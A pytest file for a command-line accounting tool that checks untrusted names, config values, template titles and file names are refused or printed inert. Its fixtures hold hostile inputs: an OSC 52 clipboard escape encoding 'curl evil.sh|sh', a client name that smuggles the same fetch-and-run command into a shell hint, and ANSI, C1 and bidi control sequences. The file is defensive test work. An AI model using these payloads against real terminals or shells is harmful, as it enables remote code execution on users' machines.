"""Text that is not acct's own never reaches the terminal raw (issue 15): owner names, config
values, template titles and file names are checked where they enter and shown through the
inert-text helper; hints that show a command quote its arguments for the shell."""

from __future__ import annotations

import re
import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.conftest import Run, assert_user_error, store_dump

from acctcli.render.safe import clean_text

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
RAW = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]"
)


@pytest.fixture
def demo(acct: Run) -> Run:
    assert acct("demo", "--date", "2026-11-20").exit_code == 0
    return acct


@pytest.mark.parametrize(
    "name", [f"bob{OSC52}", "bob\u202eevil", "bob\u061c", "bob\x9b31m", "bob smith", " "]
)
def test_an_owner_name_with_controls_or_marks_is_refused_without_echoing_them(
    demo: Run, home: Path, name: str
) -> None:
    before = store_dump(home)
    for args in (
        ("client", "add", "Новый", "--owner", name),
        ("client", "edit", "пицца", "--owner", name),
        ("client", "handover", "пицца", "--to", name),
    ):
        result = demo(*args)
        assert_user_error(result, "user name")
        assert not RAW.search(result.stderr)
    assert store_dump(home) == before


def test_a_handover_prints_the_names_inert(demo: Run) -> None:
    result = demo("client", "handover", "пицца", "--to", "boris")
    assert result.exit_code == 0 and "boris" in result.stdout


@pytest.mark.parametrize(
    "currency", ["\x1b[31mRUB", "[bold red]X[/bold red]", "R\u202eUB", "", "RUB RUB"]
)
def test_a_currency_that_is_not_a_code_or_sign_is_one_line_and_shown_inert(
    demo: Run, home: Path, currency: str
) -> None:
    import json

    (home / "config.toml").write_text(f"currency = {json.dumps(currency)}\n", "utf-8")
    for args in (("kpi", "--month", "2026-10"), ("client", "list"), ("today",)):
        result = demo(*args)
        assert_user_error(result, "currency must be a currency code or sign")
        assert not RAW.search(result.stderr) and "\x1b" not in result.stdout


def test_a_plain_currency_sign_still_works(demo: Run, home: Path) -> None:
    (home / "config.toml").write_text('currency = "€"\n', "utf-8")
    result = demo("client", "list")
    assert result.exit_code == 0 and "€" in result.stdout


def test_the_next_hint_of_onboarding_is_a_command_that_pastes_safely(acct: Run) -> None:
    name = 'Acme"; curl evil.sh|sh; echo "'
    assert acct("client", "add", name, "--since", "2026-11-02").exit_code == 0
    result = acct("onboard", "acme", "--date", "2026-11-03")
    assert result.exit_code == 0, result.stderr
    hint = next(line for line in result.stdout.splitlines() if "Next:" in line)
    command = hint.split("Next:", 1)[1].strip()
    assert shlex.split(command)[:3] == ["acct", "onboard", name]
    assert shlex.split(command)[3] == "--done"


def test_template_titles_and_file_names_are_shown_inert(
    acct: Run, home: Path, tmp_path: Path
) -> None:
    assert acct("client", "add", "Суши Дом", "--since", "2026-11-02").exit_code == 0
    template = tmp_path / "t\x1b[2Jx.toml"
    template.write_text(
        '[[step]]\nkey = "a"\ntitle = "Позвонить [bold]\\u202e\\u061c клиенту"\n'
        'day = 1\nrole = "account"\n',
        encoding="utf-8",
    )
    made = acct("onboard", "суши", "--template", str(template), "--date", "2026-11-03")
    assert made.exit_code == 0, made.stderr
    assert not RAW.search(made.stdout) and "\\u202e\\u061c" in made.stdout
    assert "[bold]" in made.stdout
    broken = tmp_path / "b\x1b[2Jad\u202e.toml"
    broken.write_text("[[step]]\nkey = 5\n", encoding="utf-8")
    result = acct("onboard", "суши", "--template", str(broken), "--restart")
    assert result.exit_code == 1
    assert not RAW.search(result.stderr) and "\\x1b[2J" in result.stderr


@given(st.text())
def test_clean_text_leaves_no_control_or_reordering_character(text: str) -> None:
    assert not RAW.search(clean_text(text))
    assert not RAW.search(clean_text(text, single_line=False).replace("\n", ""))


def test_a_colleague_named_with_escapes_in_follow_who_prints_inert(demo: Run) -> None:
    made = demo("follow", "add", "пицца", "макеты", "--who", f"Олег{OSC52}\x9b31m")
    assert made.exit_code == 0, made.stderr
    assert not RAW.search(made.stdout) and "Олег\\x1b]52" in made.stdout
    card = demo("follow", "show", made.stdout.split("#", 1)[1].split()[0])
    assert card.exit_code == 0, card.stderr
    assert not RAW.search(card.stdout) and "\\x9b31m" in card.stdout


def _with_a_hostile_client_name(demo: Run) -> Run:
    """A store whose client name holds an escape sequence and a C1 control: written there by
    another program (or by an acct before names were checked) — acct itself refuses them."""
    from acctcli.settings import load_settings
    from acctcli.store.db import connect

    db = connect(load_settings().database_url)
    try:
        with db.transaction():
            db.execute(
                "UPDATE client SET name = :name WHERE name = 'Пицца Мама'",
                {"name": f"Пицца{OSC52}\x9b31m"},
            )
    finally:
        db.close()
    return demo


def test_a_stored_client_name_with_controls_prints_inert_where_commands_echo_it(
    demo: Run,
) -> None:
    acct = _with_a_hostile_client_name(demo)
    added = acct("invoice", "add", "пицца", "1000")
    number = added.stdout.split(":", 1)[0].split()[-1]
    for result in (
        added,
        acct("invoice", "pay", number, "--amount", "400"),
        acct("invoice", "unpay", added_payment(acct, number)),
        acct("upsell", "add", "пицца", "seo", "--value", "5000"),
        acct("report", "пицца", "--sent", "--month", "2026-10"),
    ):
        assert result.exit_code == 0, result.stderr
        assert not RAW.search(result.stdout), result.stdout
        assert "\\x1b]52" in result.stdout, result.stdout


def added_payment(acct: Run, number: str) -> str:
    paid = acct("invoice", "pay", number, "--amount", "100")
    assert paid.exit_code == 0, paid.stderr
    return paid.stdout.rsplit("#", 1)[1].strip(" )\n")


def test_json_output_escapes_c1_controls_and_bidi_marks(demo: Run) -> None:
    import json

    note = "a\x9b31m\u202eb\x85c"
    assert demo("call", "log", "пицца", "--note", note).exit_code == 0
    result = demo("call", "history", "пицца", "--json")
    assert result.exit_code == 0, result.stderr
    assert not RAW.search(result.stdout)
    assert note in [t["note"] for t in json.loads(result.stdout)["touches"]]
